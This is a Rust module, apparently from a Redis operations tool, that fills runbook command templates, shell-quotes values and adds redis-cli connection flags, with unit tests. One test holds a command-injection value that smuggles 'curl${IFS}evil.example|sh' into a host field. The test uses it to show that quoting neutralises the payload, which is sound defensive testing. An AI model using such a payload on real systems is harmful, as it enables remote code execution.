//! A fix's command as a runbook writes it, kept as what it is from load to
//! send: for a Redis fix, one template per argument, split from the source
//! once at load time; for a manual fix, one shell line for the operator.
//! A placeholder fills exactly one argument and never adds one, whatever
//! the evidence holds (spaces, quotes, newlines).

use super::argv;
use super::template::Template;
use crate::target::{CliReach, NodeAddr};

#[derive(Debug, Clone, PartialEq)]
pub enum CommandTemplate {
    /// Arguments of a Redis command, each a template.
    Redis { source: String, args: Vec<Template> },
    /// A line for the operator's shell; shown, never run.
    Manual(Template),
}

/// A filled-in command.
#[derive(Debug, Clone, PartialEq)]
pub enum Command {
    Redis(Vec<String>),
    Manual(String),
}

impl CommandTemplate {
    /// Splits a Redis command's source into argument templates.
    pub fn redis(source: &str) -> Result<CommandTemplate, String> {
        let args = argv::split(source)?
            .iter()
            .map(|a| Template::parse(a))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CommandTemplate::Redis {
            source: source.to_string(),
            args,
        })
    }

    pub fn source(&self) -> &str {
        match self {
            CommandTemplate::Redis { source, .. } => source,
            CommandTemplate::Manual(t) => &t.source,
        }
    }

    pub fn fields(&self) -> Vec<&str> {
        match self {
            CommandTemplate::Redis { args, .. } => args
                .iter()
                .flat_map(super::template::Template::fields)
                .collect(),
            CommandTemplate::Manual(t) => t.fields().collect(),
        }
    }

    /// Fills the command. `Err` names the first placeholder without a value:
    /// a command with a gap is not a command. A manual command's values are
    /// quoted for a POSIX shell, so a pasted line runs exactly one command
    /// with exactly those arguments, whatever the server put in them.
    pub fn fill(&self, lookup: impl Fn(&str) -> Option<String>) -> Result<Command, String> {
        let missing = |t: &Template| t.fields().find(|f| lookup(f).is_none()).map(str::to_string);
        Ok(match self {
            CommandTemplate::Redis { args, .. } => Command::Redis(
                args.iter()
                    .map(|t| match missing(t) {
                        Some(f) => Err(f),
                        None => Ok(t.render(&lookup)),
                    })
                    .collect::<Result<_, _>>()?,
            ),
            CommandTemplate::Manual(t) => match missing(t) {
                Some(f) => return Err(f),
                None => Command::Manual(t.render(|f| lookup(f).map(|v| shell_quote(&v)))),
            },
        })
    }
}

impl Command {
    /// The command as a person reads it: Redis arguments quoted the way
    /// redis-cli reads them back when they hold spaces, quotes or control
    /// characters.
    pub fn display(&self) -> String {
        match self {
            Command::Redis(args) => args.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" "),
            Command::Manual(line) => line.clone(),
        }
    }
}

/// A manual command made ready to paste for `node`: every `redis-cli` in
/// it gets what reaching the node takes and the line does not say itself:
/// `-h HOST -p PORT` (or `-s PATH`; not for `--cluster`, whose node is an
/// argument), `--tls` with the CA and client certificate files, `--user`,
/// and `-n DB` for a database other than 0. Values are shell-quoted. The
/// password is never written: a line of its own says to export
/// REDISCLI_AUTH (see `needs_auth_note`).
pub fn for_node(line: &str, node: &NodeAddr, reach: &CliReach) -> String {
    const TOOL: &str = "redis-cli";
    let mut out = String::with_capacity(line.len() + 64);
    let mut rest = line;
    while let Some(at) = find_tool(rest) {
        let (before, after) = rest.split_at(at + TOOL.len());
        out.push_str(before);
        // The flags already given up to the end of this command.
        let end = after.find(['|', ';', '&', ')']).unwrap_or(after.len());
        let words: Vec<&str> = after[..end].split_whitespace().collect();
        let has = |flags: &[&str]| words.iter().any(|w| flags.contains(w));
        let cluster = has(&["--cluster"]);
        let mut add: Vec<String> = Vec::new();
        if !cluster && !reach.unplaced && !has(&["-h", "-s", "-u"]) {
            match node {
                NodeAddr::Tcp { host, port } => add.extend([
                    "-h".into(),
                    shell_quote(host),
                    "-p".into(),
                    port.to_string(),
                ]),
                NodeAddr::Unix { path } => {
                    add.extend(["-s".into(), shell_quote(&path.display().to_string())]);
                }
                NodeAddr::Dump { .. } => {}
            }
        }
        if reach.tls && !has(&["--tls"]) {
            add.push("--tls".into());
            let o = &reach.tls_options;
            for (flag, file) in [
                ("--cacert", &o.ca_file),
                ("--cert", &o.cert_file),
                ("--key", &o.key_file),
            ] {
                if let Some(f) = file {
                    add.extend([flag.into(), shell_quote(&f.display().to_string())]);
                }
            }
        }
        if let Some(user) = reach.user.as_ref().filter(|_| !has(&["--user"])) {
            add.extend(["--user".into(), shell_quote(user)]);
        }
        if reach.db != 0 && !cluster && !has(&["-n"]) {
            add.extend(["-n".into(), reach.db.to_string()]);
        }
        for a in add {
            out.push(' ');
            out.push_str(&a);
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

/// The line that goes before a fix's pasteable commands when the node
/// needs a password: a shell comment, so the block still pastes.
pub fn needs_auth_note(reach: &CliReach) -> Option<String> {
    reach.password.then(|| {
        "# redis-cli reads the password from REDISCLI_AUTH: export it first (cachectl never prints it)".to_string()
    })
}

/// Where `redis-cli` starts a command in `line`: at its start or after a
/// space, `(`, `;`, `|` or `&`, and followed by a space or the end.
fn find_tool(line: &str) -> Option<usize> {
    const TOOL: &str = "redis-cli";
    let mut from = 0;
    while let Some(i) = line[from..].find(TOOL).map(|i| i + from) {
        let starts = i == 0 || line[..i].ends_with([' ', '(', ';', '|', '&']);
        let ends = line[i + TOOL.len()..]
            .chars()
            .next()
            .is_none_or(|c| c == ' ');
        if starts && ends {
            return Some(i);
        }
        from = i + TOOL.len();
    }
    None
}

/// A value as one word for a POSIX shell: bare when it holds only
/// characters no shell treats specially, otherwise in single quotes (a `'`
/// inside becomes `'\''`).
pub fn shell_quote(value: &str) -> String {
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
    if plain {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// One argument as redis-cli would take it back: bare when plain,
/// otherwise double-quoted with `\"`, `\\`, `\n`, `\r`, `\t`, `\xNN`.
pub fn quote(arg: &str) -> String {
    let plain = !arg.is_empty()
        && arg
            .chars()
            .all(|c| c.is_ascii_graphic() && !matches!(c, '"' | '\'' | '\\'));
    if plain {
        return arg.to_string();
    }
    let mut out = String::from("\"");
    for c in arg.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lookup(name: &str) -> Option<String> {
        match name {
            "name" => Some("two words \"quoted\"\nline".into()),
            "n" => Some("5".into()),
            _ => None,
        }
    }

    #[test]
    fn a_placeholder_fills_one_argument() {
        let c = CommandTemplate::redis("SET probe:{n} {name}").unwrap();
        assert_eq!(
            c.fill(lookup).unwrap(),
            Command::Redis(vec![
                "SET".into(),
                "probe:5".into(),
                "two words \"quoted\"\nline".into()
            ])
        );
        assert_eq!(
            c.fill(lookup).unwrap().display(),
            r#"SET probe:5 "two words \"quoted\"\nline""#
        );
    }

    #[test]
    fn quoted_source_arguments_stay_one() {
        let c = CommandTemplate::redis("CONFIG SET save \"900 1\"").unwrap();
        assert_eq!(
            c.fill(lookup).unwrap(),
            Command::Redis(vec![
                "CONFIG".into(),
                "SET".into(),
                "save".into(),
                "900 1".into()
            ])
        );
    }

    #[test]
    fn manual_values_are_one_shell_word() {
        let c =
            CommandTemplate::Manual(Template::parse("redis-cli -h {host} -p {port} PING").unwrap());
        let lookup = |f: &str| {
            Some(match f {
                "host" => "10.0.0.1;curl${IFS}evil.example|sh;#".to_string(),
                _ => "6379".to_string(),
            })
        };
        assert_eq!(
            c.fill(lookup).unwrap().display(),
            "redis-cli -h '10.0.0.1;curl${IFS}evil.example|sh;#' -p 6379 PING"
        );
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("cache-01.example:6379"),
            "cache-01.example:6379"
        );
    }

    #[test]
    fn pasteable_commands_name_the_node_and_how_to_reach_it() {
        let node = NodeAddr::tcp("cache-01", 6380);
        let plain = CliReach::default();
        assert_eq!(
            for_node("redis-cli CONFIG GET maxmemory", &node, &plain),
            "redis-cli -h cache-01 -p 6380 CONFIG GET maxmemory"
        );
        let reach = CliReach {
            tls: true,
            tls_options: crate::target::TlsOptions {
                ca_file: Some("/etc/ca dir/ca.pem".into()),
                cert_file: None,
                key_file: None,
            },
            user: Some("ops".into()),
            db: 2,
            password: true,
            unplaced: false,
        };
        assert_eq!(
            for_node(
                "sleep 60; redis-cli INFO stats | grep -E '^keyspace_(hits|misses):'",
                &node,
                &reach
            ),
            "sleep 60; redis-cli -h cache-01 -p 6380 --tls --cacert '/etc/ca dir/ca.pem' --user ops -n 2 INFO stats | grep -E '^keyspace_(hits|misses):'"
        );
        // A line that names its node keeps it; --cluster takes it as an
        // argument; words that only contain the name are left alone.
        assert_eq!(
            for_node(
                "redis-cli -h 10.0.0.9 -p 26379 SENTINEL masters",
                &node,
                &plain
            ),
            "redis-cli -h 10.0.0.9 -p 26379 SENTINEL masters"
        );
        assert_eq!(
            for_node("redis-cli --cluster check cache-01:6380", &node, &reach),
            "redis-cli --tls --cacert '/etc/ca dir/ca.pem' --user ops --cluster check cache-01:6380"
        );
        assert_eq!(
            for_node(
                "(printf x) | redis-cli -x SET k",
                &NodeAddr::Unix {
                    path: "/run/r.sock".into()
                },
                &plain
            ),
            "(printf x) | redis-cli -s /run/r.sock -x SET k"
        );
        assert_eq!(
            for_node("apt install redis-cli-x", &node, &plain),
            "apt install redis-cli-x"
        );
        assert!(needs_auth_note(&reach).unwrap().starts_with("# "));
        assert_eq!(needs_auth_note(&plain), None);
    }

    #[test]
    fn a_missing_value_is_no_command() {
        let c = CommandTemplate::redis("CONFIG SET maxmemory {absent}").unwrap();
        assert_eq!(c.fill(lookup).unwrap_err(), "absent");
    }

    #[test]
    fn quoting_round_trips_through_the_splitter() {
        for arg in ["plain", "", "a b", "q\"x", "back\\slash", "it's"] {
            let shown = quote(arg);
            assert_eq!(
                argv::split(&format!("SET k {shown}")).unwrap()[2],
                arg,
                "{shown}"
            );
        }
    }
}
